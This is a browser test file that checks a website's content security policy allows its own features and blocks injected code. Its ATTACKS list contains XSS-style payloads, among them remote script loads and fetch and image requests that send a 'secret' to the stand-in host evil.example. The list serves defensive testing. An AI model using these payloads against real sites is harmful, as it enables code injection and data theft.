/** The content security policy allows everything that the site does, and blocks injected code. */
import { expect } from "playwright/test";
import { mockQuoteApi, openQuoteForm, SUCCESS_TEXT } from "#tests/support/browser/quote-requests.ts";
import { recordViolations } from "#tests/support/browser/record-violations.ts";
import { test } from "#tests/support/browser/test.ts";
import { PHONE } from "#tests/support/browser/viewports.ts";
import { waitForHydration } from "#tests/support/browser/wait-for-hydration.ts";

const PREFETCH_HEADER = "sec-purpose";

// Animations and transitions must be allowed, too.
test.use({ contextOptions: { reducedMotion: "no-preference" } });

test("no violation occurs while visitors use the islands and the form", async ({ page }) => {
  const violations = await recordViolations(page.context());
  await test.step("they submit the form with errors, and then without", async () => {
    await mockQuoteApi(page);
    const { fill, button, form, toast } = await openQuoteForm(page);
    await button.click();
    await expect(form.getByRole("link").first()).toBeVisible();
    await fill();
    await button.click();
    await expect(toast).toContainText(SUCCESS_TEXT);
    expect(violations).toEqual([]);
  });
  await test.step("they open the menu, and the form from the farm page, and show the map", async () => {
    await page.setViewportSize(PHONE);
    await page.goto("/farm");
    await page.getByRole("button", { name: "Menu", exact: true }).click();
    await expect(page.getByRole("navigation", { name: "Main" })).toBeVisible();
    await page.keyboard.press("Escape");
    await page.getByRole("main").getByRole("link", { name: /quote/i }).first().click();
    await expect(page).toHaveURL(/\/contact/);
    await expect(page.getByLabel("Insurance Type")).toHaveValue("farm");
    await page.route("https://www.openstreetmap.org/**", (route) =>
      route.fulfill({ contentType: "text/html", body: "<h1>A map</h1>" }),
    );
    await page.getByRole("link", { name: "Show the Map" }).click();
    await expect(page.frameLocator("iframe").getByRole("heading")).toHaveText("A map");
    expect(violations).toEqual([]);
  });
  await test.step("they advance the slider and open a tooltip", async () => {
    await page.goto("/");
    const next = page.getByRole("button", { name: "Next testimonial" });
    await next.scrollIntoViewIfNeeded();
    await waitForHydration(next);
    await next.click();
    await expect(page.getByText(/^2 of \d$/)).toBeVisible();
    await page.getByRole("button", { name: "About Years of Service" }).hover();
    await expect(page.getByRole("tooltip")).toBeVisible();
    expect(violations).toEqual([]);
  });
});

test("a page whose link the pointer is on is prerendered", async ({ page }) => {
  const violations = await recordViolations(page.context());
  await page.goto("/farm");
  const prerendered = page.context().waitForEvent("request", {
    predicate: async (request) => (await request.headerValue(PREFETCH_HEADER))?.includes("prerender") ?? false,
  });
  await page.getByRole("navigation", { name: "Main" }).getByRole("link", { name: "Medicare" }).hover();
  expect(new URL((await prerendered).url()).pathname).toBe("/medicare");
  expect(violations).toEqual([]);
});

/** Attacks that injected code could try, with the directive that blocks each one. */
const ATTACKS: [directive: string, attack: () => unknown][] = [
  [
    "require-trusted-types-for",
    () =>
      document.head.append(Object.assign(document.createElement("script"), { text: "document.title = 'attacked'" })),
  ],
  [
    "require-trusted-types-for",
    () =>
      document.head.append(Object.assign(document.createElement("script"), { src: "https://evil.example/attack.js" })),
  ],
  [
    "require-trusted-types-for",
    () => {
      document.body.setAttribute("onclick", "document.title = 'attacked'");
      document.body.click();
    },
  ],
  ["require-trusted-types-for", () => setTimeout(() => new Function("document.title = 'attacked'")())],
  [
    "require-trusted-types-for",
    () => {
      document.body.innerHTML = "<img src=x onerror=\"document.title = 'attacked'\">";
    },
  ],
  ["trusted-types", () => window.trustedTypes?.createPolicy("evil", { createHTML: String })],
  ["script-src-elem", () => import("https://evil.example/attack.js" as string)],
  [
    "style-src-elem",
    () => document.head.append(Object.assign(document.createElement("style"), { textContent: "body { opacity: 0 }" })),
  ],
  ["style-src-attr", () => document.body.setAttribute("style", "opacity: 0")],
  ["img-src", () => document.body.append(Object.assign(new Image(), { src: "https://evil.example/?secret" }))],
  ["connect-src", () => fetch("https://evil.example/?secret").catch(() => undefined)],
  [
    "frame-src",
    () => document.body.append(Object.assign(document.createElement("iframe"), { src: "https://evil.example/" })),
  ],
  [
    "base-uri",
    () => document.head.append(Object.assign(document.createElement("base"), { href: "https://evil.example/" })),
  ],
  [
    "form-action",
    () => {
      const form = Object.assign(document.createElement("form"), { action: "https://evil.example/" });
      document.body.append(form);
      form.submit();
    },
  ],
];

test("the policy blocks injected code, whatever it tries", async ({ page }) => {
  const violations = await recordViolations(page.context());
  await page.goto("/contact");
  for (const [index, [directive, attack]] of ATTACKS.entries()) {
    await test.step(`attack ${index + 1}, blocked by ${directive}`, async () => {
      violations.length = 0;
      await page.evaluate(attack).catch(() => undefined);
      await expect.poll(() => violations).toContainEqual(expect.stringContaining(`${directive}: `));
      // Reports that come late do not count for the next attack.
      await page.evaluate(() => new Promise((done) => requestAnimationFrame(() => requestAnimationFrame(done))));
      const { title, opacity, path } = await page.evaluate(() => ({
        title: document.title,
        opacity: getComputedStyle(document.body).opacity,
        path: location.pathname,
      }));
      expect(title).not.toBe("attacked");
      expect([opacity, path]).toEqual(["1", "/contact"]);
    });
  }
});
